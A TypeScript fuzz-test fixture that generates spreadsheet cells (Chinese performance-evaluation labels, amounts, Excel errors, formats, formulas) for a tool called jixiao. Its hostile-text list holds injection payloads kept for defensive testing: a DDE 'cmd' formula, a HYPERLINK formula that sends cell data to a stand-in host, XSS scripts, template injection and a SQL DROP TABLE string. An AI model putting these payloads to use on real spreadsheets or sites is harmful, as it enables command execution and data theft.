import fc from "fast-check";
import type { CellValue } from "../../src/domain/cells";
import { ownedFormula } from "../../src/domain/ownership";

/**
 * What accountants put in cells: the labels the reader looks for, amounts, targets and actuals
 * as typed (or pasted from Word), Excel errors, booleans, dates as serials, formulas (jixiao's
 * own and the user's), and hostile text. Shared by the fuzz properties and the hostile corpus.
 */

/** A cell as a host hands it over: its value, and a formula/number format when it has one. */
export interface FuzzCell {
  readonly value: CellValue;
  readonly formula?: string | null;
  readonly format?: string | null;
}

export const LABELS: readonly string[] = [
  "2020年度部门整体支出绩效自评表",
  "2024年度项目支出绩效自评表",
  "部门名称",
  "单位名称",
  "项目支出名称",
  "专项名称",
  "项目总投资（万元）",
  "资金情况（万元）",
  "年度项目资金（元）",
  "年度资金总额",
  "合计",
  "其中：当年财政拨款",
  "上年结转资金",
  "其他资金",
  "按收入性质分",
  "按支出性质分",
  "基本支出",
  "项目支出",
  "年初预算数",
  "全年预算数",
  "调整后预算数(A)",
  "全年执行数",
  "执行数(B)",
  "分值",
  "执行率",
  "执行率(B/A)",
  "得分",
  "得分（分值×执行率）",
  "年度总体目标",
  "预期目标",
  "实际完成情况",
  "绩效指标",
  "一级指标",
  "二级指标",
  "三级指标",
  "年度指标值",
  "实际完成值",
  "指标性质",
  "指标值",
  "度量单位",
  "偏差原因分析及改进措施",
  "定量/定性",
  "产出指标(50分)",
  "产出指标",
  "效益指标（30分）",
  "满意度指标(10分)",
  "数量指标",
  "质量指标",
  "时效指标",
  "成本指标",
  "经济效益指标",
  "社会效益指标",
  "可持续影响指标",
  "服务对象满意度指标",
  "总分",
  "等级",
  "等级：优",
  "等级：差",
  "指标1",
  "……",
  "备注：1.“执行率”=“全年执行数”/“全年预算数”；",
];

/** Targets, actuals and notes the way real tables write them. */
export const TEXTS: readonly string[] = [
  "52家",
  "　52家",
  "≥95%",
  "＞＝９５％",
  "不低于90%",
  "95%以上",
  "≤3天",
  "<5次",
  "=100%",
  "＝100％",
  "100%",
  "0.95",
  "161.4万元",
  "161.4万元　",
  "1614000元",
  "1.614亿元",
  "292万余元",
  "约10万元",
  "1,234.5",
  "10　",
  "　10",
  "-5",
  "−5",
  "1e5",
  "十",
  "两个",
  "元",
  "万元",
  "%",
  "2020年12月前",
  "12月31日前",
  "2020年12月31日",
  "2020.1-12",
  "已完成",
  "已圆满完成",
  "按时完成",
  "完成",
  "部分完成",
  "基本达成",
  "未完成",
  "较差",
  "达成",
  "效果明显",
  "不断提高",
  "持续高质量发展",
  "正向",
  "反向",
  "≥",
  "定性",
  "定量",
  "个",
  "N/A",
  "无",
  "与企业之间的联系有待加强",
  "加强沟通协调服务，助力民营企业发展\n调服务，助力民营企业发展",
];

/** Text that must never turn into a formula, markup or a control sequence anywhere jixiao writes. */
export const HOSTILE_TEXTS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")",
  "+1",
  "-1",
  "@SUM(A1:A9)",
  "=1+1",
  '=98+N("jixiao")',
  "\t=1+1",
  "\r=1+1",
  "<img src=x onerror=alert(1)>",
  "<script>alert('x')</script>",
  "</textarea><svg onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${process.exit(1)}",
  "__proto__",
  "constructor",
  "\u0000",
  "\u0007\u0008\u001b[31m红\u001b[0m",
  "\u202e优\u202c",
  "\u200b\u200d\ufeff",
  "\ud800",
  "😀😀",
  "𠀀𠀁",
  "a\r\nb\rc\nd",
  "\u00ad52家",
  "%s%n%d",
  "'; DROP TABLE t; --",
  "#DIV/0!",
  "#REF!",
  "TRUE",
  "{\"error\":\"#N/A\"}",
];

export const EXCEL_ERRORS: readonly string[] = [
  "#DIV/0!",
  "#REF!",
  "#N/A",
  "#VALUE!",
  "#NAME?",
  "#NUM!",
  "#NULL!",
  "#SPILL!",
  "#CALC!",
  "#GETTING_DATA",
];

export const HUGE_NUMBERS: readonly number[] = [
  1e15,
  123456789012345.67,
  1e21,
  1e100,
  1e308,
  Number.MAX_VALUE,
  Number.MAX_SAFE_INTEGER,
  -1e308,
  -Number.MAX_VALUE,
  Number.MIN_VALUE,
  -Number.MIN_VALUE,
  1e-300,
  0.005,
  0.125,
  0.0049999,
  -0,
  99999999999,
];

export const FORMATS: readonly string[] = [
  "General",
  "0",
  "0.00",
  "0%",
  "0.00%",
  "#,##0.00",
  "@",
  'yyyy"年"m"月"d"日"',
  "yyyy/m/d",
  "m/d/yy",
  '0.00"万元"',
  '[$-804]yyyy"年"m"月"',
  "[Red]0.00",
];

export const errorValue: fc.Arbitrary<CellValue> = fc.constantFrom(...EXCEL_ERRORS).map((error) => ({ error }));

export const numberValue: fc.Arbitrary<number> = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -20, max: 200 }) },
  { weight: 2, arbitrary: fc.integer({ min: 0, max: 100000 }).map((n) => n / 100) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE_NUMBERS) },
  { weight: 1, arbitrary: fc.double({ noNaN: false }) },
  { weight: 1, arbitrary: fc.integer({ min: 36526, max: 47848 }) }, // date serials 2000–2030
);

/** Any text a cell might hold: labels, typed values, hostile content, random Unicode. */
export const textValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...LABELS) },
  { weight: 4, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 6 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 6 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom("≥", "≤", "=", "＞", "不低于", ""), numberValue, fc.constantFrom("%", "万元", "元", "个", "家", "次", "天", "")).map(([o, n, u]) => `${o}${n}${u}`) },
);

export const cellValue: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null) },
  { weight: 6, arbitrary: textValue },
  { weight: 4, arbitrary: numberValue },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: errorValue },
  { weight: 1, arbitrary: fc.constantFrom("", " ", "\u3000", "\u00a0", "\n") },
);

/** Formulas a cell can hold with the value Excel cached for it (not always consistent). */
export const formulaCell: fc.Arbitrary<FuzzCell> = fc.oneof(
  numberValue.filter(Number.isFinite).map((n) => ({ value: n, formula: ownedFormula(n) })),
  fc.tuple(numberValue.filter(Number.isFinite), numberValue).map(([n, cached]) => ({ value: cached, formula: ownedFormula(n) })),
  fc.constantFrom("等级：优", "等级：良", "中", "差", "").map((g) => ({ value: g, formula: ownedFormula(g) })),
  fc.constantFrom(
    { value: 98, formula: '=98+N("JIXIAO")' },
    { value: 98, formula: ' =98+N("jixiao") ' },
    { value: Infinity, formula: '=1e400+N("jixiao")' },
    { value: 10, formula: "=SUM(H11:H20)" },
    { value: { error: "#REF!" }, formula: "=#REF!*F4" },
    { value: 0.95, formula: "=E4/D4" },
    { value: "优", formula: '=IF(H24>=90,"优","良")' },
    { value: null, formula: "=" },
  ),
);

export const formatValue: fc.Arbitrary<string | null> = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMATS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
);

export const fuzzCell: fc.Arbitrary<FuzzCell> = fc.oneof(
  { weight: 8, arbitrary: fc.record({ value: cellValue, format: formatValue }) },
  { weight: 1, arbitrary: formulaCell },
);
